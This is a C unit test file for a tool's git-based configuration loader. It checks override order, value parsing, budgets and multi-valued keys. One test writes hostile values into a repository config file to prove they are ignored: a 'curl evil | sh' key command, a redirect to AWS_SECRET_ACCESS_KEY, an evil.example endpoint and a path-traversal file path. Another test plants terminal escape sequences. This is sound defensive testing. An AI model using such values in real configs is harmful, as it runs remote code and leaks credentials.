/* test_config.c — resolution order, sources, parsing and multi-valued keys
 * of config.h, against real git repositories in temp dirs written with the
 * real git CLI.  HOME and XDG_CONFIG_HOME point into the temp dir and the
 * system level is switched off, so the user's own config is never read. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <git2.h>
#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "codicil/buf.h"
#include "codicil/config.h"
#include "codicil/error.h"
#include "codicil/file.h"
#include "codicil/client_config.h"
#include "codicil/store.h"

static store *open_store(const char *dir)
{
	store *s = NULL;

	assert_int_equal(store_open(dir, &s), 0);
	return s;
}

static void close_store(store *s)
{
	store_close(s);
}

static char root[256], home[300], xdg[300], repo[300];

static void sh(const char *fmt, ...)
{
	char cmd[2048];
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(cmd, sizeof cmd, fmt, ap);
	va_end(ap);
	if (system(cmd) != 0)
		fail_msg("command failed: %s", cmd);
}

static void write_file(const char *dir, const char *name, const char *text)
{
	cd_buf path = CD_BUF_INIT;

	cd_path_join(&path, dir, name);
	assert_int_equal(cd_file_write_atomic(path.data, text, strlen(text)), 0);
	cd_buf_clear(&path);
}

static void unset_codicil_env(void)
{
	extern char **environ;
	char name[256];

	for (int again = 1; again;) {
		again = 0;
		for (char **e = environ; *e; e++) {
			if (!strncmp(*e, "CODICIL_", 8)) {
				snprintf(name, sizeof name, "%.*s", (int)strcspn(*e, "="), *e);
				unsetenv(name);
				again = 1;
				break;
			}
		}
	}
}

static int setup(void **state)
{
	char path[320];

	snprintf(root, sizeof root, "%s/codicil-config.XXXXXX",
		 getenv("TMPDIR") ? getenv("TMPDIR") : "/tmp");
	assert_non_null(mkdtemp(root));
	snprintf(home, sizeof home, "%s/home", root);
	snprintf(xdg, sizeof xdg, "%s/xdg", root);
	snprintf(repo, sizeof repo, "%s/repo", root);
	snprintf(path, sizeof path, "%s/git", xdg);
	assert_int_equal(cd_mkdir_p(home, 0700), 0);
	assert_int_equal(cd_mkdir_p(path, 0700), 0);
	setenv("HOME", home, 1);
	setenv("XDG_CONFIG_HOME", xdg, 1);
	setenv("GIT_CONFIG_NOSYSTEM", "1", 1); /* for the git CLI; libgit2 below */
	unset_codicil_env();

	git_libgit2_opts(GIT_OPT_SET_SEARCH_PATH, GIT_CONFIG_LEVEL_SYSTEM, "/nonexistent");
	git_libgit2_opts(GIT_OPT_SET_SEARCH_PATH, GIT_CONFIG_LEVEL_GLOBAL, home);
	git_libgit2_opts(GIT_OPT_SET_SEARCH_PATH, GIT_CONFIG_LEVEL_XDG, path);
	sh("git init -q '%s'", repo);
	*state = open_store(repo);
	return 0;
}

static int teardown(void **state)
{
	close_store(*state);
	unset_codicil_env();
	assert_int_equal(cd_remove_tree(root), 0);
	return 0;
}

static config *open_cfg(store *s)
{
	config *c;

	if (config_open(s, &c) < 0)
		fail_msg("config_open: %s", cd_err_msg());
	return c;
}

static void expect(store *s, const char *key, const char *value, const char *source)
{
	config *c = open_cfg(s);

	if (value) {
		assert_non_null(config_get(c, key));
		assert_string_equal(config_get(c, key), value);
	}
	else
		assert_null(config_get(c, key));
	assert_string_equal(config_source(c, key), source);
	config_free(c);
}

/* Set one key at all five levels, then take them away from the top. */
static void test_each_level_overrides_the_ones_below(void **state)
{
	store *s = *state;
	config *c;
	const char *before;

	expect(s, "codicil.concurrency", "8", "default");
	write_file(repo, ".codicil", "[codicil]\n\tconcurrency = 3\n");
	expect(s, "codicil.concurrency", "3", ".codicil");
	sh("git config --global codicil.concurrency 5");
	expect(s, "codicil.concurrency", "5", "git config");
	sh("git -C '%s' config codicil.concurrency 6", repo);
	expect(s, "codicil.concurrency", "6", "git config");
	setenv("CODICIL_CONCURRENCY", "7", 1);
	expect(s, "codicil.concurrency", "7", "environment CODICIL_CONCURRENCY");

	c = open_cfg(s);
	before = config_get(c, "codicil.concurrency");
	assert_int_equal(config_set_flag(c, "codicil.concurrency", "9"), 0);
	assert_string_equal(config_get(c, "codicil.concurrency"), "9");
	assert_string_equal(config_source(c, "codicil.concurrency"), "command line");
	assert_string_equal(before, "7"); /* an earlier answer stays readable */
	assert_int_equal(config_set_flag(c, "codicil.concurrency", "10"), 0);
	assert_string_equal(config_get(c, "codicil.concurrency"), "10");
	config_free(c);

	expect(s, "codicil.concurrency", "7", "environment CODICIL_CONCURRENCY");
	setenv("CODICIL_CONCURRENCY", "", 1); /* empty counts as unset */
	expect(s, "codicil.concurrency", "6", "git config");
	unsetenv("CODICIL_CONCURRENCY");
	sh("git -C '%s' config --unset codicil.concurrency", repo);
	expect(s, "codicil.concurrency", "5", "git config");
	sh("git config --global --unset codicil.concurrency");
	expect(s, "codicil.concurrency", "3", ".codicil");
	write_file(repo, ".codicil", "[codicil]\n\tmodel = m\n");
	expect(s, "codicil.concurrency", "8", "default");
}

static void test_defaults_table(void **state)
{
	static const char *const want[][2] = {
		{ "codicil.provider", "openai" },
		{ "codicil.concurrency", "8" },
		{ "codicil.retries", "4" },
		{ "codicil.maxResponseBytes", "8388608" },
		{ "codicil.connectTimeout", "10" },
		{ "codicil.stallTimeout", "60" },
		{ "codicil.charter", "CONSTITUTION.md" },
	};
	config *c = open_cfg(*state);

	for (size_t i = 0; i < sizeof want / sizeof *want; i++) {
		assert_string_equal(config_get(c, want[i][0]), want[i][1]);
		assert_string_equal(config_source(c, want[i][0]), "default");
	}
	assert_null(config_get(c, "codicil.judgeModel"));
	assert_string_equal(config_source(c, "codicil.judgeModel"), "unset");
	assert_null(config_get(c, "codicil.model"));
	assert_string_equal(config_source(c, "codicil.model"), "unset");
	config_free(c);
}

/* libgit2 looks for the global files when the repository is opened, so
 * this one opens its own after writing the file. */
static void test_xdg_config_is_read(void **state)
{
	store *s;

	write_file(xdg, "git/config", "[codicil]\n\tmodel = from-xdg\n");
	s = open_store(repo);
	expect(s, "codicil.model", "from-xdg", "git config");
	close_store(s);
	sh("git config --global codicil.model from-home");
	s = open_store(repo);
	expect(s, "codicil.model", "from-home", "git config");
	close_store(s);
}

static void test_keys_are_case_insensitive_like_git(void **state)
{
	config *c;

	sh("git -C '%s' config codicil.maxresponsebytes 1024", repo);
	c = open_cfg(*state);
	assert_string_equal(config_get(c, "codicil.maxResponseBytes"), "1024");
	assert_string_equal(config_get(c, "Codicil.MAXRESPONSEBYTES"), "1024");
	assert_int_equal(config_set_flag(c, "codicil.Retries", "2"), 0);
	assert_string_equal(config_get(c, "codicil.retries"), "2");
	config_free(c);
}

static void test_subsection_keys(void **state)
{
	config *c;

	sh("git -C '%s' config codicil.key.generate n", repo);
	setenv("CODICIL_KEY_JUDGE", "j", 1);
	c = open_cfg(*state);
	assert_string_equal(config_get(c, "codicil.key.generate"), "n");
	assert_null(config_get(c, "codicil.KEY.generate")); /* subsections keep case */
	assert_string_equal(config_get(c, "codicil.key.judge"), "j");
	assert_string_equal(config_source(c, "codicil.key.judge"), "environment CODICIL_KEY_JUDGE");
	config_free(c);
}

/* Prices are settings per model (a name may hold dots), dollars per
 * million tokens; cached input defaults to the input price. */
static void test_prices(void **state)
{
	llm_usage u = { .input_tokens = 1000000, .output_tokens = 200000,
			.cached_input_tokens = 400000 };
	llm_price p;
	config *c;

	sh("git -C '%s' config codicil.price.gpt-4.1.input 2", repo);
	sh("git -C '%s' config codicil.price.gpt-4.1.output 8", repo);
	sh("git -C '%s' config codicil.price.gpt-4.1.cachedInput 0.5", repo);
	sh("git -C '%s' config codicil.price.half.input 3", repo);
	sh("git -C '%s' config codicil.price.cheap.input 1", repo);
	sh("git -C '%s' config codicil.price.cheap.output 4", repo);
	sh("git -C '%s' config codicil.price.bad.input 2,50", repo);
	c = open_cfg(*state);
	assert_int_equal(client_config_price(c, "gpt-4.1", &p), 0);
	assert_true(p.known);
	/* 600k fresh at $2, 400k cached at $0.50, 200k out at $8 */
	assert_true(fabs(llm_price_cost(&p, &u) - (1.2 + 0.2 + 1.6)) < 1e-9);
	assert_int_equal(client_config_price(c, "cheap", &p), 0);
	assert_true(p.known);
	assert_true(fabs(llm_price_cost(&p, &u) - (1.0 + 0.8)) < 1e-9); /* cached at input */
	assert_int_equal(client_config_price(c, "half", &p), 0);
	assert_false(p.known); /* no output price: no price at all */
	assert_true(llm_price_cost(&p, &u) == 0);
	assert_int_equal(client_config_price(c, "nobody", &p), 0);
	assert_false(p.known);
	assert_int_equal(client_config_price(c, "bad", &p), -1);
	assert_non_null(strstr(cd_err_msg(), "codicil.price.bad.input"));
	config_free(c);
}

static void test_budgets(void **state)
{
	static const struct { const char *text; long tokens; double usd; } good[] = {
		{ "250000", 250000, 0 }, { "250k", 250000, 0 }, { "2M", 2000000, 0 },
		{ "1.5k", 1500, 0 }, { "$5", 0, 5 }, { "$0.50", 0, 0.5 }, { "", 0, 0 },
		{ "none", 0, 0 }, { "0", 0, 0 },
	};
	static const char *const bad[] = { "x5", "$", "$-1", "5 tokens", "-5", "1e6", "$0",
					   "0.1", "5kk" };
	llm_budget b;
	char text[64];

	(void)state;
	for (size_t i = 0; i < sizeof good / sizeof *good; i++) {
		assert_int_equal(llm_budget_parse(good[i].text, &b), 0);
		assert_int_equal(b.tokens, good[i].tokens);
		assert_true(fabs(b.usd - good[i].usd) < 1e-12);
	}
	for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
		if (llm_budget_parse(bad[i], &b) == 0)
			fail_msg("budget '%s' was accepted", bad[i]);
		assert_non_null(strstr(cd_err_msg(), "neither a number of tokens"));
	}
	assert_int_equal(llm_budget_parse("1234567", &b), 0);
	llm_budget_describe(&b, text, sizeof text);
	assert_string_equal(text, "1,234,567 tokens");
	assert_int_equal(llm_budget_parse("$2.5", &b), 0);
	llm_budget_describe(&b, text, sizeof text);
	assert_string_equal(text, "$2.50");
}

static void test_env_name_derivation(void **state)
{
	static const char *const cases[][2] = {
		{ "codicil.apiKeyEnv", "CODICIL_API_KEY_ENV" },
		{ "codicil.key.generate", "CODICIL_KEY_GENERATE" },
		{ "codicil.maxResponseBytes", "CODICIL_MAX_RESPONSE_BYTES" },
		{ "codicil.provider", "CODICIL_PROVIDER" },
		{ "codicil.endpoint", "CODICIL_ENDPOINT" },
		{ "codicil.model", "CODICIL_MODEL" },
		{ "codicil.concurrency", "CODICIL_CONCURRENCY" },
		{ "codicil.httpURL", "CODICIL_HTTP_URL" },
		{ "codicil.HTTPServer", "CODICIL_HTTP_SERVER" },
		{ "codicil.key2Env", "CODICIL_KEY2_ENV" },
		{ "codicil.judge-model", "CODICIL_JUDGE_MODEL" },
	};
	config *c;
	char *name;

	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
		name = config_env_name(cases[i][0]);
		assert_non_null(name);
		assert_string_equal(name, cases[i][1]);
		free(name);
	}
	assert_null(config_env_name("user.name"));
	assert_non_null(strstr(cd_err_msg(), "user.name"));
	assert_null(config_env_name("codicil."));

	/* and the derived name is the one looked up */
	setenv("CODICIL_API_KEY_ENV", "MY_KEY", 1);
	c = open_cfg(*state);
	assert_string_equal(config_get(c, "codicil.apiKeyEnv"), "MY_KEY");
	assert_string_equal(config_source(c, "codicil.apiKeyEnv"), "environment CODICIL_API_KEY_ENV");
	config_free(c);
}

static void test_int_parsing(void **state)
{
	store *s = *state;
	config *c;
	long v;

	write_file(repo, ".codicil", "[codicil]\n\tretries = 2\n\tstallTimeout = 1k\n"
		   "\tconnectTimeout = ten\n");
	sh("git -C '%s' config codicil.maxResponseBytes 8m", repo);
	setenv("CODICIL_CONCURRENCY", "eight", 1);
	c = open_cfg(s);

	assert_int_equal(config_get_int(c, "codicil.retries", 0, &v), 0);
	assert_int_equal(v, 2);
	assert_int_equal(config_get_int(c, "codicil.stallTimeout", 0, &v), 0);
	assert_int_equal(v, 1024);
	assert_int_equal(config_get_int(c, "codicil.maxResponseBytes", 0, &v), 0);
	assert_int_equal(v, 8L * 1024 * 1024);
	assert_int_equal(config_get_int(c, "codicil.notSetAnywhere", 42, &v), 0);
	assert_int_equal(v, 42);

	assert_int_equal(config_get_int(c, "codicil.concurrency", 0, &v), -1);
	assert_non_null(strstr(cd_err_msg(), "codicil.concurrency"));
	assert_non_null(strstr(cd_err_msg(), "'eight'"));
	assert_non_null(strstr(cd_err_msg(), "environment CODICIL_CONCURRENCY"));

	assert_int_equal(config_get_int(c, "codicil.connectTimeout", 0, &v), -1);
	assert_non_null(strstr(cd_err_msg(), "codicil.connectTimeout"));
	assert_non_null(strstr(cd_err_msg(), ".codicil"));

	static const char *const bad[] = { "", "12x", "99999999999999999999", "9999999999999999g",
					   "1.5" };
	for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
		assert_int_equal(config_set_flag(c, "codicil.retries", bad[i]), 0);
		assert_int_equal(config_get_int(c, "codicil.retries", 0, &v), -1);
		assert_non_null(strstr(cd_err_msg(), "command line"));
	}
	assert_int_equal(config_set_flag(c, "codicil.retries", "-3"), 0);
	assert_int_equal(config_get_int(c, "codicil.retries", 0, &v), 0);
	assert_int_equal(v, -3);
	config_free(c);
}

static void test_bool_parsing(void **state)
{
	static const char *const yes[] = { "true", "yes", "on", "1", "TRUE", "Yes" };
	static const char *const no[] = { "false", "no", "off", "0", "False", "OFF" };
	config *c;
	int v;

	/* "verbose" without '=' is true in git's syntax */
	write_file(repo, ".codicil", "[codicil]\n\tverbose\n\tcolor = maybe\n");
	c = open_cfg(*state);
	assert_int_equal(config_get_bool(c, "codicil.verbose", 0, &v), 0);
	assert_int_equal(v, 1);
	assert_int_equal(config_get_bool(c, "codicil.color", 0, &v), -1);
	assert_non_null(strstr(cd_err_msg(), "codicil.color"));
	assert_non_null(strstr(cd_err_msg(), "'maybe'"));
	assert_non_null(strstr(cd_err_msg(), "(from .codicil)"));
	assert_int_equal(config_get_bool(c, "codicil.unset", 1, &v), 0);
	assert_int_equal(v, 1);
	for (size_t i = 0; i < sizeof yes / sizeof *yes; i++) {
		v = -1;
		assert_int_equal(config_set_flag(c, "codicil.offline", yes[i]), 0);
		assert_int_equal(config_get_bool(c, "codicil.offline", 0, &v), 0);
		assert_int_equal(v, 1);
		assert_int_equal(config_set_flag(c, "codicil.offline", no[i]), 0);
		assert_int_equal(config_get_bool(c, "codicil.offline", 1, &v), 0);
		assert_int_equal(v, 0);
	}
	config_free(c);

	sh("git -C '%s' config codicil.color sometimes", repo);
	c = open_cfg(*state);
	assert_int_equal(config_get_bool(c, "codicil.color", 0, &v), -1);
	assert_non_null(strstr(cd_err_msg(), "(from git config)"));
	config_free(c);
}

/* A value from a cloned repository is untrusted text that ends up in an
 * error message on the terminal. */
static void test_bad_value_error_is_terminal_safe(void **state)
{
	config *c;
	long v;

	write_file(repo, ".codicil", "[codicil]\n\tretries = \x1b]0;pwned\x07\x1b[2J\n");
	c = open_cfg(*state);
	assert_int_equal(config_get_int(c, "codicil.retries", 0, &v), -1);
	assert_null(strchr(cd_err_msg(), '\x1b'));
	assert_null(strchr(cd_err_msg(), '\x07'));
	assert_non_null(strstr(cd_err_msg(), "codicil.retries"));
	config_free(c);
}

static void test_multi_valued_keys(void **state)
{
	store *s = *state;
	config *c;
	const char **v;
	size_t n;

	write_file(repo, ".codicil", "[codicil]\n\treliableRater = team@example.org\n");
	sh("git config --global codicil.reliableRater global@example.org");
	sh("git -C '%s' config --add codicil.reliableRater ada@example.org", repo);
	sh("git -C '%s' config --add codicil.reliableRater bob@example.org", repo);
	c = open_cfg(s);
	assert_int_equal(config_get_all(c, "codicil.reliableRater", &v, &n), 0);
	assert_int_equal(n, 4);
	assert_string_equal(v[0], "team@example.org");
	assert_string_equal(v[1], "global@example.org");
	assert_string_equal(v[2], "ada@example.org");
	assert_string_equal(v[3], "bob@example.org");
	/* the single value is the last one, as with git config --get */
	assert_string_equal(config_get(c, "codicil.reliableRater"), "bob@example.org");

	assert_int_equal(config_get_all(c, "codicil.nobody", &v, &n), 0);
	assert_int_equal(n, 0);
	assert_int_equal(config_get_all(c, "codicil.provider", &v, &n), 0);
	assert_int_equal(n, 1);
	assert_string_equal(v[0], "openai");

	/* a flag replaces the list */
	assert_int_equal(config_set_flag(c, "codicil.reliableRater", "eve@example.org"), 0);
	assert_int_equal(config_get_all(c, "codicil.reliableRater", &v, &n), 0);
	assert_int_equal(n, 1);
	assert_string_equal(v[0], "eve@example.org");
	assert_int_equal(config_get_all(c, "bad key", &v, &n), -1);
	config_free(c);
}

/* .codicil arrives with a clone: it must not choose what runs here or
 * where the API key goes. */
static void test_team_file_cannot_set_trusted_keys(void **state)
{
	store *s = *state;
	config *c;
	const char **v;
	size_t n;

	write_file(repo, ".codicil", "[codicil]\n\tapiKeyCommand = curl evil | sh\n"
		   "\tapiKeyEnv = AWS_SECRET_ACCESS_KEY\n\tendpoint = https://evil.example/v1\n"
		   "\tprovider = record\n\trecordProvider = anthropic\n"
		   "\tcassette = ../../../../tmp/x.jsonl\n"
		   "\tmodel = shared-model\n");
	c = open_cfg(s);
	assert_null(config_get(c, "codicil.apiKeyCommand"));
	assert_null(config_get(c, "codicil.apiKeyEnv"));
	assert_null(config_get(c, "codicil.endpoint"));
	/* which provider answers and which file it writes: the user's choice */
	assert_string_not_equal(config_source(c, "codicil.provider"), ".codicil");
	assert_string_not_equal(config_source(c, "codicil.recordProvider"), ".codicil");
	assert_null(config_get(c, "codicil.cassette"));
	assert_string_equal(config_source(c, "codicil.cassette"), "unset");
	assert_string_equal(config_source(c, "codicil.endpoint"), "unset");
	assert_int_equal(config_get_all(c, "codicil.apiKeyCommand", &v, &n), 0);
	assert_int_equal(n, 0);
	assert_string_equal(config_get(c, "codicil.model"), "shared-model");
	config_free(c);

	sh("git -C '%s' config codicil.endpoint http://127.0.0.1:8080/v1", repo);
	expect(s, "codicil.endpoint", "http://127.0.0.1:8080/v1", "git config");
}

static void test_malformed_team_file(void **state)
{
	config *c = NULL;

	write_file(repo, ".codicil", "[codicil\n\tmodel = x\n");
	assert_int_equal(config_open(*state, &c), -1);
	assert_null(c);
	assert_non_null(strstr(cd_err_msg(), "/.codicil"));
	assert_null(strchr(cd_err_msg(), '\n'));
}

static void test_invalid_keys(void **state)
{
	config *c = open_cfg(*state);

	assert_int_equal(config_set_flag(c, "concurrency", "3"), -1);
	assert_non_null(strstr(cd_err_msg(), "codicil.name"));
	assert_int_equal(config_set_flag(c, "codicil.", "3"), -1);
	assert_int_equal(config_set_flag(c, ".x", "3"), -1);
	assert_null(config_get(c, "concurrency"));
	assert_string_equal(config_source(c, "concurrency"), "unset");
	config_free(c);
}

/* Outside a repository: flags, environment, global git config, defaults. */
static void test_outside_a_repository(void **state)
{
	char cwd[4096];
	config *c;
	long v;

	sh("git config --global codicil.model global-model");
	sh("git -C '%s' config codicil.provider anthropic", repo);
	write_file(repo, ".codicil", "[codicil]\n\tretries = 1\n");
	assert_non_null(getcwd(cwd, sizeof cwd));
	assert_int_equal(chdir(repo), 0); /* a .codicil in the cwd is not read */
	setenv("CODICIL_STALL_TIMEOUT", "5", 1);

	c = open_cfg(NULL);
	assert_string_equal(config_get(c, "codicil.model"), "global-model");
	assert_string_equal(config_source(c, "codicil.model"), "git config");
	assert_string_equal(config_get(c, "codicil.provider"), "openai");
	assert_string_equal(config_source(c, "codicil.retries"), "default");
	assert_int_equal(config_get_int(c, "codicil.stallTimeout", 0, &v), 0);
	assert_int_equal(v, 5);
	assert_int_equal(config_set_flag(c, "codicil.model", "flag-model"), 0);
	assert_string_equal(config_get(c, "codicil.model"), "flag-model");
	config_free(c);
	assert_int_equal(chdir(cwd), 0);
}

/* The work-tree file is read as it is now, committed or not. */
static void test_team_file_is_read_from_the_work_tree(void **state)
{
	write_file(repo, ".codicil", "[codicil]\n\tmodel = committed\n");
	sh("cd '%s' && git add .codicil && git -c user.name=T -c user.email=t@e "
	   "commit -qm team", repo);
	write_file(repo, ".codicil", "[codicil]\n\tmodel = edited\n");
	expect(*state, "codicil.model", "edited", ".codicil");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
#define T(f) cmocka_unit_test_setup_teardown(f, setup, teardown)
		T(test_each_level_overrides_the_ones_below),
		T(test_defaults_table),
		T(test_xdg_config_is_read),
		T(test_keys_are_case_insensitive_like_git),
		T(test_subsection_keys),
		T(test_prices),
		T(test_budgets),
		T(test_env_name_derivation),
		T(test_int_parsing),
		T(test_bool_parsing),
		T(test_bad_value_error_is_terminal_safe),
		T(test_multi_valued_keys),
		T(test_team_file_cannot_set_trusted_keys),
		T(test_malformed_team_file),
		T(test_invalid_keys),
		T(test_outside_a_repository),
		T(test_team_file_is_read_from_the_work_tree),
#undef T
	};
	int rc;

	git_libgit2_init();
	rc = cmocka_run_group_tests(tests, NULL, NULL);
	git_libgit2_shutdown();
	return rc;
}
